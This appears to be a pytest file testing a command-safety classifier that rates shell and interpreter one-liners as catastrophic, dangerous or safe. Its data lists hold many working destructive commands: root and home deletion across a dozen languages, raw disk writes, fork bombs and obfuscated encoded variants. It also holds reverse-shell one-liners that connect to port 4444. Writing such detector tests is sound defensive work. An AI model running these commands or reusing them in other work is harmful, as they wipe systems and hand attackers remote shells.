"""Interpreter one-liners and awk programs that destroy the machine (issue 12).

Python, Perl, Ruby and Node code that removes a tree at a root or home, opens a block device for
writing, or forks in an endless loop is catastrophic, however the call is spelled (argv lists,
variables holding the path, walks with a delete inside, home-directory expressions); awk's
`system()`, `| getline` and `print | "sh"` are read as the shell commands they are. These strings
are data: they are only ever classified, never run.
"""

from __future__ import annotations

import pytest

from engine.gate.verdict import Level
from engine.tools.call import ToolCall

PYTHON = [
    "python3 -c \"import shutil; shutil.rmtree('/')\"",
    "python -c 'import os; os.system(\"rm -rf /\")'",
    "python3 -c \"import subprocess; subprocess.run(['rm','-rf','/'])\"",
    "python3 -c \"import subprocess as s; s.call(['rm', '-rf', '/'], shell=False)\"",
    "python3 -c \"import os; os.execvp('rm', ['rm', '-rf', '/'])\"",
    "python3 -c \"import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')\"",
    "python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
    "python3 -c \"import shutil, pathlib; shutil.rmtree(pathlib.Path.home())\"",
    "python3 -c \"import shutil; p='/'; shutil.rmtree(p)\"",
    "python3 -c \"import shutil,os; shutil.rmtree(os.environ['HOME'])\"",
    "python3 -c \"from pathlib import Path; [p.unlink() for p in Path('/').rglob('*') if p.is_file()]\"",
    "python3 -c \"import os\nfor r, d, f in os.walk('/'):\n    for n in f: os.remove(os.path.join(r, n))\"",
    "python3 -c \"open('/dev/sda','wb').write(b'0'*512)\"",
    "python3 -c \"with open('/dev/nvme0n1', 'r+b') as f: f.write(bytes(4096))\"",
    "python3 -c \"import os; fd=os.open('/dev/sda', os.O_WRONLY); os.write(fd, bytes(512))\"",
    "python3 -c \"open('/dev/sda', mode='wb').write(bytes(1))\"",
    "python3 -c \"from pathlib import Path; Path('/dev/sdb').write_bytes(bytes(512))\"",
    "python3 -c 'import os\nwhile True: os.fork()'",
    "python -c 'import os\nwhile 1:\n    os.fork()'",
    "python3 -c \"import subprocess,sys\nwhile True: subprocess.Popen([sys.executable, '-c', 'pass'])\"",
    "python3 -c \"import codecs,os; os.system(codecs.decode('ez -es /', 'rot13'))\"",
    "python3 -c \"import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"",
    "python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'",
    "python3 -c \"import os, itertools; [os.fork() for _ in itertools.count()]\"",
    "python3 -c \"import os; os.system('/ fr- mr'[::-1])\"",
    "python3 -c \"import os; os.remove('/etc/passwd')\"",
    "python3 - <<< \"import shutil; shutil.rmtree('/')\"",
    "echo \"import shutil; shutil.rmtree('/')\" | python3",
    "python3 -c \"import zlib,base64; exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRKM4oLcnMsYbSekW5JUWpqRrq+uqaANm/C9Q=')))\"",
    "python3 -c \"import base64,gzip; exec(gzip.decompress(base64.b64decode('H4sIAAAAAAACA8vMLcgvKlEozigtycyxhtJ6RbklRampGur66poAJrR66SEAAAA=')))\"",
    "python3 -c \"exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729'))\"",
    "python3 -c \"exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729').decode())\"",
    "python3 -c \"import binascii; exec(binascii.unhexlify('696d706f7274206f733b206f732e73797374656d2827726d202d7266202f2729'))\"",
    "python3 -c \"eval(compile('import shutil; shutil.rmtree(\\\"/\\\")', 'x', 'exec'))\"",
    "python3 -c \"exec('import shutil; shutil.rmtree(\\\"/\\\")')\"",
    "python3 -c \"__import__('os').system('rm -rf /')\"",
    "python3 -c \"getattr(__import__('os'), 'system')('rm -rf /')\"",
    "python3 -c \"getattr(__import__('shutil'),'rmtree')('/')\"",
    "python3 -c \"import importlib; importlib.import_module('os').system('rm -rf /')\"",
    "python3 -c \"__import__('shutil').rmtree(__import__('os').path.expanduser('~'))\"",
    "python3 -c \"import shutil,os; shutil.rmtree(str(os.path.expanduser('~')))\"",
    "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp'))\"",
]

PERL = [
    "perl -e 'use File::Path; rmtree(\"/\")'",
    "perl -MFile::Path -e 'File::Path::rmtree(\"/\")'",
    "perl -MFile::Path=remove_tree -e 'remove_tree(\"/\")'",
    "perl -e 'system(\"rm -rf /\")'",
    "perl -e 'system(\"rm\", \"-rf\", \"/\")'",
    "perl -e '`rm -rf /`'",
    "perl -e 'open(my $f, \">\", \"/dev/sda\"); print $f \"x\" x 512'",
    "perl -e 'open(F, \">/dev/sda\"); print F 0'",
    "perl -e 'fork while 1'",
    "perl -e 'fork while fork'",
    "perl -e '1 while fork'",
    "perl -MFile::Path -e 'rmtree($ENV{HOME})'",
    "perl -e 'qx(rm -rf /)'",
    "perl -e 'exec \"rm\", \"-rf\", \"/\"'",
    "perl -e 'system(scalar reverse \"/ fr- mr\")'",
]

RUBY = [
    "ruby -e \"require 'fileutils'; FileUtils.rm_rf('/')\"",
    "ruby -rfileutils -e 'FileUtils.rm_r(\"/etc\")'",
    "ruby -e 'FileUtils.rm_rf(Dir.home)'",
    "ruby -e 'system(\"rm\", \"-rf\", \"/\")'",
    "ruby -e '`rm -rf /`'",
    "ruby -e \"File.open('/dev/nvme0n1','w') { |f| f.write('0') }\"",
    "ruby -e 'File.write(\"/dev/sda\", \"x\")'",
    "ruby -e 'loop { fork }'",
    "ruby -e 'loop do fork end'",
]

NODE = [
    "node -e \"require('fs').rmSync('/', {recursive: true, force: true})\"",
    "node -e \"require('fs').rmdirSync('/home', {recursive:true})\"",
    "node -e \"const fs=require('fs'); fs.rm('/', {recursive:true}, ()=>{})\"",
    "node -e \"require('child_process').execSync('rm -rf /')\"",
    "node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"",
    "node -e \"require('child_process').execFileSync('rm', ['-rf', '/'])\"",
    "node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"",
    "node -e \"require('fs').writeFileSync('/dev/sda', Buffer.alloc(512))\"",
    "node -e \"const fs=require('fs'); const fd=fs.openSync('/dev/sda','w'); fs.writeSync(fd, 'x')\"",
    "node -e \"while(1) require('child_process').fork(__filename)\"",
    "node -e \"setInterval(()=>require('child_process').fork(process.argv[1]), 1)\"",
    "node -e \"for(;;) require('child_process').spawn(process.execPath, ['-e', ''])\"",
]

AWK = [
    "awk 'BEGIN{system(\"rm -rf /\")}'",
    "gawk 'BEGIN { system(\"rm\" \" -rf /\") }'",
    "mawk 'BEGIN{\"rm -rf /\" | getline}'",
    "awk 'BEGIN{print \"rm -rf /\" | \"sh\"}'",
    "echo 'rm -rf /' | awk '{print | \"sh\"}'",
    "busybox awk 'BEGIN{system(\"rm -rf ~\")}'",
    "awk -v c='rm -rf /' 'BEGIN{system(c)}'",
    "awk 'BEGIN{c=\"rm -rf /\"; system(c)}'",
    "nawk 'BEGIN{system(\"dd if=/dev/zero of=/dev/sda\")}'",
    "echo x | awk '{system(\"rm -rf /\")}'",
    "awk 'BEGIN{system(\"rm -rf \" ENVIRON[\"HOME\"])}'",
    "gawk '{ system($0) }' <<< 'rm -rf /'",
    "find / -maxdepth 1 | awk '{system(\"rm -rf \" $0)}'",
    "awk -v d=/etc 'BEGIN { cmd = \"rm -rf \" d; system(cmd) }'",
    "echo / | awk '{print \"rm -rf \" $1}' | sh",
    "sed -n '1e rm -rf /' notes.txt",
    "sed 's/.*/rm -rf &/e' <<< '/home'",
    "gdb -batch -ex 'shell rm -rf /'",
    "vim -c ':!rm -rf ~' -c ':q!'",
    "docker run --rm -v /:/host alpine rm -rf /host",
    "kubectl debug node/worker-1 -it --image=busybox -- chroot /host rm -rf /",
]

OTHER_INTERPRETERS = [
    "perl -e 'eval(pack(\"H*\", \"73797374656d2822726d202d7266202f2229\"))'",
    "julia -e 'rm(homedir(); recursive=true)'",
    "julia -e 'rm(\"/\"; recursive=true, force=true)'",
    "julia -e 'run(`rm -rf /`)'",
    "deno eval 'Deno.remove(\"/\", {recursive: true})'",
    "deno eval 'await Deno.remove(Deno.env.get(\"HOME\"), { recursive: true })'",
    "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/\"]}).outputSync()'",
    "bun -e 'Bun.spawnSync([\"rm\", \"-rf\", \"/\"])'",
    "bun -e 'await Bun.$`rm -rf /`'",
    "bun -e 'require(\"fs\").rmSync(require(\"os\").homedir(), {recursive: true})'",
    "php -r 'system(\"rm -rf /\");'",
    "php -r 'exec(\"rm -rf ~\");'",
    "php -r 'shell_exec(\"rm -rf /\");'",
    "php -r 'passthru(\"rm -rf /\");'",
    "php -r 'echo `rm -rf /`;'",
    "php -r 'system(\"rm -rf \" . getenv(\"HOME\"));'",
    "lua -e 'os.execute(\"rm -rf /\")'",
    "lua -e 'io.popen(\"rm -rf ~\")'",
    "Rscript -e 'system(\"rm -rf /\")'",
    "Rscript -e 'unlink(\"/\", recursive=TRUE)'",
    "R -e 'unlink(path.expand(\"~\"), recursive = TRUE)'",
    "Rscript -e 'unlink(Sys.getenv(\"HOME\"), recursive=TRUE)'",
    "osascript -e 'do shell script \"rm -rf ~\"'",
    "osascript -e 'do shell script \"rm -rf /\" with administrator privileges'",
    "osascript -e 'do shell script \"rm -rf \" & quoted form of \"/\"'",
    "osascript -l JavaScript -e 'app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript(\"rm -rf ~\")'",
]

REVERSE_SHELLS = [
    "node -e \"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});\"",
    "node -e \"const s=require('net').connect(4444,'h',()=>{const p=require('child_process').spawn('bash',['-i']);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)})\"",
    "node -e \"require('node:net').createConnection({host:'h',port:1},function(){this.pipe(require('child_process').exec('sh').stdin)})\"",
    "deno eval 'const c = await Deno.connect({hostname: \"h\", port: 4444}); const p = new Deno.Command(\"sh\", {stdin: \"piped\", stdout: \"piped\"}).spawn(); c.readable.pipeTo(p.stdin); p.stdout.pipeTo(c.writable)'",
    "lua -e 'local s=require(\"socket\").tcp(); s:connect(\"h\",4444); while true do local c=s:receive(); local f=io.popen(c); s:send(f:read(\"*a\")) end'",
    "php -r '$s=fsockopen(\"h\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
]

CATASTROPHIC = PYTHON + PERL + RUBY + NODE + AWK + OTHER_INTERPRETERS + REVERSE_SHELLS

DANGEROUS = [
    "python3 -c \"import shutil; shutil.rmtree('build')\"",
    "python3 -c \"open('out.bin','wb').write(b'x')\"",
    "python3 -c \"import os; os.fork()\"",
    "perl -e 'fork'",
    "ruby -e 'FileUtils.rm_rf(\"tmp\")'",
    "node -e \"require('fs').rmSync('dist', {recursive: true})\"",
    "awk 'BEGIN{system(\"ls\")}'",
    "python3 -c \"import os\nfor r, d, f in os.walk('.'):\n    print(r)\"",
    "python3 -c \"from pathlib import Path; [p.unlink() for p in Path('build').rglob('*.o')]\"",
    "python3 -c \"open('/dev/sda','rb').read(512)\"",
    "python3 -c \"import os\nfor i in range(3): print(os.getpid())\"",
    "python3 -c \"import os\npid = os.fork()\nwhile True: print(pid)\"",
    "sed -n '1e ls' notes.txt",
    "docker run --rm -v /srv/data:/data alpine rm -rf /data/cache",
    "docker run --rm alpine rm -rf /",
    "python3 -c \"import subprocess\nwhile True: subprocess.run(['date']); time.sleep(5)\"",
    "python3 -c \"exec(bytes.fromhex('7072696e74283129'))\"",
    "python3 -c \"getattr(__import__('os'), 'system')('ls')\"",
    "julia -e 'rm(\"build\"; recursive=true)'",
    "osascript -e 'do shell script \"ls ~\"'",
    "node -e \"require('net').connect(80, 'x.example')\"",
]

SAFE = [
    "awk '{print $1}' notes.txt",
    "sed 's/e/E/g' notes.txt",
    "awk -F: '{print $1}' /etc/passwd",
    "echo x | awk '{print toupper($0)}'",
]


@pytest.mark.parametrize("command", CATASTROPHIC)
def test_destructive_payload_is_catastrophic(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.CATASTROPHIC, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("command", DANGEROUS)
def test_ordinary_payload_is_dangerous_not_catastrophic(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.DANGEROUS, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("command", SAFE)
def test_plain_awk_stays_safe(shell, command: str) -> None:
    verdict = shell(command)
    assert verdict.level is Level.SAFE, f"{command!r}: {verdict.level.label} {verdict.rules}"


@pytest.mark.parametrize("code", [
    "import shutil\nshutil.rmtree('/')",
    "import os\nwhile True:\n    os.fork()",
    "with open('/dev/sda', 'wb') as disk:\n    disk.write(bytes(1 << 20))",
])
def test_code_tool_reads_the_same_payloads(classifier, code: str) -> None:
    verdict = classifier.classify(ToolCall("code.run", {"code": code, "language": "python"}))
    assert verdict.level is Level.CATASTROPHIC, f"{code!r}: {verdict.rules}"


def test_device_write_and_fork_loop_name_their_rules(shell) -> None:
    assert "code.write-device" in shell("python3 -c \"open('/dev/sda','wb').write(b'0')\"").rules
    assert "code.fork-loop" in shell("perl -e 'fork while 1'").rules
